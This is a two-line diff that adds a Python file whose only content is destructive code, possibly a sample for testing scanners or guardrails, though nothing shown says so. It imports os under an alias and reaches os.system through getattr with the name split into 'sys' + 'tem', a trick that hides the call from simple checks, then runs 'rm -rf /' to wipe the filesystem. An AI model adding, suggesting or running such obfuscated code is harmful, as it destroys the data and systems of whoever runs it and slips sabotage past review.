@@ -1,0 +1,2 @@
+import os as o
+getattr(o, "sys" + "tem")("rm -rf /")
